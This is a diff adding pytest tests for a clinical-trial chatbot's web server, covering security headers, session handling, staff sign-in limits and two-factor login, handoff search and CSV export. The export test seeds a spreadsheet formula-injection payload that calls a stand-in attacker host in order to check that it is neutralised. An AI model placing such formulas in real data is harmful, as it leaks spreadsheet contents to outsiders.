@@ -1,0 +1,318 @@
+"""The web server itself (aiohttp, started for real in this process on a free
+port) against a real database (SQLite, and PostgreSQL where configured):
+headers, chat sessions, staff sign-in limits and second factor, the staff
+list's search and filters, the handoff page, the CSV download. The Rasa
+server is not needed here (tests/test_security.py and tests/test_browser.py
+run everything together); where the chat would call it, it points at a
+closed port and the page answers 503 as it does when Rasa is down."""
+import csv
+import io
+import json
+import re
+from datetime import date, datetime, timedelta
+
+import pyotp
+import pytest
+import sqlalchemy as sa
+from aiohttp.test_utils import TestClient, TestServer
+
+from bot.records import crypto
+from bot.staff.auth import hash_password
+from bot.records.store import ChatSession, Handoff, Screening
+from tests.servers import free_port
+from web.app import create_app, earliest_date, replay
+
+PASSWORD = "tangerine velvet orbit 42"
+
+
+@pytest.fixture
+async def web(bot_env, monkeypatch):
+    monkeypatch.setenv("TRIALBOT_RASA_URL", f"http://127.0.0.1:{free_port()}")  # nothing listens there
+    monkeypatch.delenv("TRIALBOT_BEHIND_HTTPS_PROXY", raising=False)
+    for name in ("alice", "bob"):
+        bot_env.add_staff_user(name, hash_password(PASSWORD, check=False))
+    client = TestClient(TestServer(create_app(bot_env)))
+    await client.start_server()
+    client.store = bot_env
+    yield client
+    await client.close()
+
+
+async def sign_in(client, username="alice", password=PASSWORD, **headers):
+    return await client.post("/staff/login", data={"username": username, "password": password},
+                             allow_redirects=False, headers=headers)
+
+
+async def signed_in(client, username="alice"):
+    r = await sign_in(client, username)
+    assert r.status == 302, await r.text()
+    page = await (await client.get("/staff")).text()
+    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)
+
+
+def make(store, sender, name, phone, outcome="likely_eligible", kind="screening", language=None, days_ago=0,
+         flags=None, answers=()):
+    for cid, verdict, reason in answers:
+        store.record_answer(sender, "NCT03558607", cid, f"question {cid}", f"typed {cid}", None, verdict, reason)
+    if kind == "screening":
+        store.finish_screening(sender, "NCT03558607", outcome, {c: (v, r) for c, v, r in answers})
+    ref = store.create_handoff(sender, "NCT03558607", "consent v1", name, phone, f"{sender}@example.com", "mornings",
+                               "Korean", kind=kind)
+    with store.session() as s:
+        h = s.execute(sa.select(Handoff).where(Handoff.reference == ref)).scalar_one()
+        h.created_at = datetime(2026, 11, 25, 1, 0) - timedelta(days=days_ago)
+        h.screening.language = language
+        if flags is not None:
+            h.screening.flags_enc = crypto.encrypt(json.dumps(flags, ensure_ascii=False))
+    return ref
+
+
+# ---------------------------------------------------------------- headers
+
+async def test_headers_name_no_software_and_keep_the_strict_policy(web):
+    for path in ("/", "/staff/login", "/static/chat.js", "/no/such/page", "/api/history"):
+        r = await web.get(path)
+        assert "Server" not in r.headers, (path, r.headers.get("Server"))
+        assert r.headers["Content-Security-Policy"].startswith("default-src 'self'; script-src 'self'"), path
+        assert "'unsafe-inline'" not in r.headers["Content-Security-Policy"]
+        assert r.headers["X-Content-Type-Options"] == "nosniff" and r.headers["X-Frame-Options"] == "DENY"
+        assert "Strict-Transport-Security" not in r.headers  # plain HTTP: no HSTS
+    r = await sign_in(web)
+    cookie = r.headers["Set-Cookie"]
+    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
+
+
+async def test_behind_an_https_proxy_cookies_are_secure_with_hsts(web, monkeypatch):
+    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
+    r = await web.get("/", headers={"X-Forwarded-Proto": "https"})
+    assert r.headers["Strict-Transport-Security"].startswith("max-age=31536000")
+    r = await sign_in(web)
+    assert r.status == 302 and "Secure" in r.headers["Set-Cookie"] and "HttpOnly" in r.headers["Set-Cookie"]
+    r = await web.post("/api/chat", json={"message": "hi"})
+    assert r.status == 503 and "Secure" in r.headers["Set-Cookie"]
+
+
+# ---------------------------------------------------------------- chat sessions (no Rasa needed)
+
+async def test_only_ids_the_server_issued_are_accepted(web):
+    forged = "attacker-chosen-id-0123456789"
+    web.session.cookie_jar.update_cookies({"tb_session": forged})
+    r = await web.post("/api/chat", json={"message": "hi"})
+    issued = r.cookies["tb_session"].value
+    assert issued != forged and len(issued) >= 30
+    with web.store.session() as s:
+        assert s.get(ChatSession, __import__("hashlib").sha256(issued.encode()).hexdigest()) is not None
+        assert s.execute(sa.select(sa.func.count()).select_from(ChatSession)).scalar() == 1  # the id itself is not stored
+    r = await web.post("/api/chat", json={"message": "again"})
+    assert "tb_session" not in r.cookies  # the issued id is kept
+    # A restarted web server (a new app on the same database) still knows it.
+    other = TestClient(TestServer(create_app(web.store)))
+    await other.start_server()
+    other.session.cookie_jar.update_cookies({"tb_session": issued})
+    r = await other.post("/api/chat", json={"message": "after restart"})
+    assert "tb_session" not in r.cookies
+    await other.close()
+
+
+async def test_idle_and_ended_sessions_get_a_new_id(web):
+    r = await web.post("/api/chat", json={"message": "hi"})
+    first = r.cookies["tb_session"].value
+    with web.store.session() as s:
+        for row in s.execute(sa.select(ChatSession)).scalars():
+            row.last_seen_at -= timedelta(minutes=31)  # the default idle limit is 30 minutes
+    r = await web.post("/api/chat", json={"message": "hi"})
+    second = r.cookies["tb_session"].value
+    assert second != first
+    r = await web.post("/api/end", json={})
+    assert r.status == 200 and r.cookies["tb_session"].value == ""
+    web.session.cookie_jar.update_cookies({"tb_session": second})  # a copy of the old cookie
+    r = await web.get("/api/history")
+    assert (await r.json())["messages"] == []
+    r = await web.post("/api/chat", json={"message": "hi"})
+    assert r.cookies["tb_session"].value not in ("", first, second)
+
+
+async def test_chat_api_takes_json_only(web):
+    r = await web.post("/api/end", data={"x": "1"})
+    assert r.status == 415
+    r = await web.post("/api/chat", data=b'{"message": "\xff\xfe"}', headers={"Content-Type": "application/json"})
+    assert r.status == 400
+
+
+def test_replay_masks_contact_details_but_not_answers():
+    events = [
+        {"event": "bot", "text": "How old are you?"},
+        {"event": "user", "text": "I'm 58, creatinine 1.0 mg/dL, ALT 35 and AST 30 on 2026-03-04"},
+        {"event": "slot", "name": "requested_slot", "value": "contact_name"},
+        {"event": "bot", "text": "What name should the team use?"},
+        {"event": "user", "text": "Choi Yuna"},
+        {"event": "slot", "name": "contact_name", "value": "Choi Yuna"},
+        {"event": "slot", "name": "requested_slot", "value": "contact_details"},
+        {"event": "user", "text": "010-2222-3333 or yuna@example.com"},
+        {"event": "slot", "name": "requested_slot", "value": "contact_time"},
+        {"event": "bot", "text": "Thanks Choi Yuna, we will call +82 10-2222-3333 or write to yuna@example.com."},
+        {"event": "user", "text": "call me at 02 123 4567 please, or YUNA@EXAMPLE.COM"},
+        {"event": "bot", "text": "", "data": {"custom": {"lang": "ko"}}},
+        {"event": "slot", "name": "contact", "value": {"name": "Jang Hyun", "phone": "+821044445555"}},
+        {"event": "user", "text": "Jang Hyun here again"},
+    ]
+    shown, lang = replay(events, {}, [])
+    text = json.dumps(shown, ensure_ascii=False)
+    for secret in ("Choi", "Yuna", "2222", "3333", "example.com", "123 4567", "Jang Hyun"):
+        assert secret not in text, secret
+    assert shown[1]["text"] == "I'm 58, creatinine 1.0 mg/dL, ALT 35 and AST 30 on 2026-03-04"
+    assert shown[3]["masked"] and lang == "ko"
+    assert len(shown) == 8  # the language message is not shown
+
+
+# ---------------------------------------------------------------- staff sign-in
+
+async def test_a_colleagues_typos_do_not_lock_other_accounts(web):
+    codes = [(await sign_in(web, "alice", "wrong password!")).status for _ in range(5)]
+    assert codes == [401] * 5
+    assert (await sign_in(web, "alice")).status == 429  # alice waits, even with her right password
+    r = await sign_in(web, "bob")  # same address, other account
+    assert r.status == 302 and r.headers["Location"] == "/staff"
+    actions = [a.action for a in web.store.audit_trail()]
+    assert actions.count("staff_login_failed") == 5 and "staff_login" in actions
+
+
+async def test_one_address_guessing_many_accounts_is_stopped(web, monkeypatch):
+    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")  # the address comes from the proxy's X-Forwarded-For
+    for i in range(30):
+        assert (await sign_in(web, f"user{i}", "x" * 12, **{"X-Forwarded-For": "203.0.113.9"})).status == 401
+    assert (await sign_in(web, "alice", **{"X-Forwarded-For": "203.0.113.9"})).status == 429
+    assert (await sign_in(web, "alice", **{"X-Forwarded-For": "198.51.100.7"})).status == 302
+
+
+async def test_second_factor_is_asked_when_turned_on(web):
+    secret = pyotp.random_base32()
+    web.store.set_staff_totp("alice", secret)
+    with web.store.engine.connect() as conn:
+        assert secret not in str(conn.execute(sa.text("SELECT totp_secret_enc FROM staff_users")).all())
+    r = await sign_in(web)
+    page = await r.text()
+    assert r.status == 200 and 'name="code"' in page and "tb_staff" not in r.cookies
+    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
+    bad = str((int(pyotp.TOTP(secret).now()) + 1) % 1000000).zfill(6)
+    r = await web.post("/staff/login/code", data={"pending": pending, "code": bad}, allow_redirects=False)
+    assert r.status == 401 and "not right" in await r.text()
+    code = pyotp.TOTP(secret).now()
+    r = await web.post("/staff/login/code", data={"pending": pending, "code": code}, allow_redirects=False)
+    assert r.status == 302 and r.cookies["tb_staff"].value
+    # The same code cannot be used twice.
+    page = await (await sign_in(web)).text()
+    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
+    r = await web.post("/staff/login/code", data={"pending": pending, "code": code}, allow_redirects=False)
+    assert r.status == 401
+    # Without a password first there is nothing to complete.
+    r = await web.post("/staff/login/code", data={"pending": "made-up", "code": code}, allow_redirects=False)
+    assert r.status == 401 and "tb_staff" not in r.cookies
+
+
+# ---------------------------------------------------------------- staff list and handoff page
+
+async def test_search_filter_and_sort_the_handoffs(web):
+    a = make(web.store, "s-a", "Kim Minji", "+821012345678", language="ko", days_ago=3)
+    b = make(web.store, "s-b", "Park Jisoo", "+821099998888", outcome="needs_review", language="en", days_ago=1)
+    c = make(web.store, "s-c", "Lee Callback", "+821055556666", kind="callback", language="ko", days_ago=5)
+    web.store.set_status(c, "contacted", "", "test")
+    await signed_in(web)
+
+    async def refs(**query):
+        page = await (await web.get("/staff", params=query)).text()
+        return re.findall(r'href="/staff/handoffs/([A-Z0-9-]+)"', page)
+
+    assert await refs(q="minji") == [a]
+    assert await refs(q="010-1234-5678") == [a]
+    assert await refs(q="99998888") == [b]
+    assert await refs(q=b.lower()) == [b]
+    assert await refs(q="nobody") == []
+    assert await refs(outcome="callback") == [c]
+    assert await refs(outcome="needs_review") == [b]
+    assert sorted(await refs(language="ko")) == sorted([a, c])
+    assert await refs(status="contacted") == [c]
+    assert await refs(**{"from": "2026-11-23", "to": "2026-11-24"}) == [b]  # Seoul dates
+    assert await refs(sort="waiting") == [a, b, c]  # new ones, oldest first; then the contacted one
+    assert await refs(sort="newest") == [b, a, c]
+    page = await (await web.get("/staff")).text()
+    assert "callback request" in page and "2026-11-22 10:00" in page  # 01:00 UTC is 10:00 in Seoul
+    assert "Created (Asia/Seoul)" in page
+
+
+async def test_the_handoff_page_shows_what_to_check_first(web):
+    ref = make(web.store, "s-d", "Kim Minji", "+821012345678", language="ko",
+               flags={"emergencies": ["fever"], "unread": [{"criterion": "ecog", "text": "so-so"}, "age"]},
+               answers=[("age", "pass", "Age 58 is fine."),
+                        ("life_expectancy", "deferred", "Judged by the study doctor."),
+                        ("ecog", "unknown", "The answer does not settle this; the study team will check."),
+                        ("recent_chemo", "unknown", "Last cancer medicine a week ago, less than 14 days ago. "
+                                                    "the earliest start would be 9 December 2026, and the study team "
+                                                    "will confirm.")])
+    csrf = await signed_in(web)
+    page = await (await web.get(f"/staff/handoffs/{ref}")).text()
+    check = page[page.index('id="points"'):page.index('id="contact-title"')]
+    assert "Judged by the study doctor." in check and "does not settle this" in check
+    assert "Age 58 is fine." not in check
+    assert "2026-12-09" in check
+    assert "Emergency mentioned: fever" in check and "so-so" in check and check.count("flag unread") == 2
+    assert page.index('id="points"') < page.index('id="criteria-title"') < page.index('id="transcript-title"')
+    assert 'href="tel:+821012345678"' in page and 'href="mailto:s-d@example.com"' in page
+    assert "한국어" in page  # the conversation's language
+    assert "2026-11-25 10:00" in page  # Seoul time
+
+    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": csrf, "assigned_to": "bob"},
+                       allow_redirects=False)
+    assert r.status == 302
+    r = await web.post(f"/staff/handoffs/{ref}/follow-up", data={"csrf": csrf, "follow_up_on": "2026-12-01"},
+                       allow_redirects=False)
+    assert r.status == 302
+    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": "forged", "assigned_to": "alice"},
+                       allow_redirects=False)
+    assert r.status == 403
+    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": csrf, "assigned_to": "mallory"},
+                       allow_redirects=False)
+    assert r.status == 400
+    h = web.store.handoff(ref)
+    assert h.assigned_to == "bob" and h.follow_up_on == date(2026, 12, 1)
+    page = await (await web.get(f"/staff/handoffs/{ref}")).text()
+    history = page[page.index('id="history"'):]
+    assert "assigned" in history and "nobody -&gt; bob" in history and "follow up set" in history
+    assert "handoff viewed" in history and "web:alice" in history
+
+
+async def test_a_callback_request_has_no_result_and_does_not_break(web):
+    ref = make(web.store, "s-e", "Lee Callback", "+821055556666", kind="callback")
+    await signed_in(web)
+    r = await web.get(f"/staff/handoffs/{ref}")
+    page = await r.text()
+    assert r.status == 200 and "Callback request" in page and "asked for a call back" in page
+    assert "Outcome:" not in page
+
+
+def test_earliest_date_in_reasons():
+    assert earliest_date("the earliest start would be 9 December 2026") == date(2026, 12, 9)
+    assert earliest_date("가장 빠른 시작일은 2026년 12월 9일이에요") == date(2026, 12, 9)
+    assert earliest_date("from 2027-01-02 or 3 January 2027") == date(2027, 1, 2)
+    assert earliest_date("no date here, 14 days") is None
+
+
+# ---------------------------------------------------------------- export
+
+async def test_csv_download_cannot_run_formulas(web):
+    ref = make(web.store, "s-f", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+821012345678")
+    web.store.set_status(ref, "contacted", "@SUM(1+1)", "test")
+    await signed_in(web)
+    r = await web.get("/staff/export", params={"format": "csv"})
+    body = await r.read()
+    assert r.headers["Content-Type"].startswith("text/csv") and "charset=utf-8" in r.headers["Content-Type"]
+    assert body.startswith(b"\xef\xbb\xbf")
+    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["phone"] == "'+821012345678"
+    assert row["notes"].startswith("'[") or row["notes"].startswith("[")
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    r = await web.get("/staff/export", params={"format": "json"})
+    data = json.loads(await r.text())
+    assert data[0]["name"].startswith("=HYPERLINK") and data[0]["phone"] == "+821012345678"
